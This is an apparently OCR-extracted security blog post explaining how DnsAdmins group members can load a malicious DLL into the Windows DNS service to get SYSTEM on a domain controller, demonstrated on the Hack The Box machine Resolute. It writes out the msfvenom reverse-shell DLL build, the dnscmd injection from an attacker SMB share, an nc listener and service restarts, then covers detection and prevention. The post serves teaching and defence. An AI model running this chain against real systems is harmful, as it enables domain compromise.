Security Blogs


Abusing the Rights and Privileges of DNS Admins to own the Domain Controller – Windows Red Teaming

This attack demonstrates how an attacker can abuse some Active Directory misconfigurations and rights of the DNS Admins group in a Windows environment, and can successfully own the Domain Admins, Enterprise Admins or the Domain Controller depending upon where the DNS service isactually configured and running from.

By default, Domain Controllers are also DNS Servers meaning, that a user who is a member of the DNS Admins group can successfully abuse his rights and get code execution on the Domain Controller.

Anatomy of the Attack:

Successful exploitation of the attack requires a compromised user, part of the DNS Admins group, to load anarbitrary dll from his server into the DNS service, running usually as SYSTEM on the Domain Controller.

Anatomy of the attack

This happens because the ServerLevelPluginDll operation of DNS enables one to load an arbitrary dll, without verification of the dll path. A command-line windows utility to manage DNS servers, dnscmd.exe, already provides this option to change the configuration and load the arbitrary dll into the DNS service.

Upon successful execution of the attack, the following registry key is populated which can also be used to detect this attack, as discussed in the last section of thisarticle.


Overview of the Entire Attack:

Enumerating User Privileges:

The attacker has compromised a user on the target machine, and after enumerating the groups that user is a part of, the attacker finds that he is also a member of the DNS Admins group. This can be done using the following Powershell commands:

$ net user <username> /domain$ whoami /all

Building the dll:

The dll will be built using msfvenom with a stageless shell payload, using the following command:

$ msfvenom -a x64 -pwindows/x64/shell_reverse_tcp LHOST=<listening ip> LPORT=<listening port> -f dll -o shell.dll

Let’s break down this command and see what each of these switches mean:

-a : for selecting the windows build architecture

-p : payload

-f : format of the output shellcode

-o : name of the resulting output dll file

LHOST : ip of the attacker’s listening machine

LPORT : listening port of the attacker’s machine

Hosting the dll:

The dll will be hosted on an smb server, and will be injected from the same too instead of transferring it on to the victim machine, for fear of the antivirus detecting and removing our shellcoded dll.

To host the smb server, impacket-toolkit’s script can be used:

On attacker machine:

$ <share_name> <path_of_the_share>Exploiting the DNS Service:To succesfully exploit the service, the attacker will use dnscmd to inject the malicious dll into the ServerLevelPluginDll, using the following command:

$ dnscmd\\<hostname> /config /serverlevelplugindll \\share_path_to_the_malicious_dll

Next, the attacker will start the listener on his attacking machine, and restart the dns service on the target machine, using the following commands:

On attacking machine, setting up the listener:

$ nc -lvnp <listening_port>

On target machine, restarting the dns service:

$ sc.exe \\<hostname> stop dns

$ sc.exe \\<hostname> start dns

Once the DNS service starts, the attacker will get the SYSTEM shell of the Domain Controller on his own machine.

Practical Demonstration:For practical demonstration of this attack, we’ll be using a recently retired machine on Hack The Box, named Resolute.

To start off, we have successfully compromised a user named ‘ryan‘ on the victim.

Logging in as the compromised user

Enumerating the group memberships shows us that ryan is part of the DNS Admins group.

Checking group memberships for the compromised user

Let’s build our malicious dll using msfvenom.

Building our malicious dll

Now let’s setup our smb-server to host the malicious dll.

Hosting the malicious dll using impacket’s smbserver

Time to exploit. Let’s inject the dll and get the SYSTEM shell on the Domain Controller.

Injecting the malicious dll and restarting the DNS service

Upon starting the DNS service, we have successfully exploited the rights of DNS Admins and gained code execution on the Domain Controller.

SYSTEM shell of the Domain Controller

Note: If the DNS Service is not running on the Domain Controller, but on the Domain Admins; the attacker will get the SYSTEM shell of the Domain Admins instead of the DC.

Detection and Prevention of the Attack:

Check for unusual stop and start queries for DNS services. The DNS Server Log entries will tell the if anymalicious dll was loadedsuccessfully or not, Log IDs 150 for failure and 770 for success.

Also checking the registry for any unusual dlls loaded into the DNS Server also comes in handy. Checking the registry values for DNS server can be done by noticing changes made to the following registry key:


This can be done using the following Powershell command:$ Get-ItemProperty -PathHKLM:\System\CurrentControlSet\Services\DNS\Parameters

Identifying the dll injection

This attack can be prevented by implementing proper ACLs for write privileges onDNS Server objects and memberships of the DNS Admins group, and ensuring that only Administrator accounts are part of theDNS Admins group.


Leave a Reply

Youremail address will notbe published. Required fields are marked *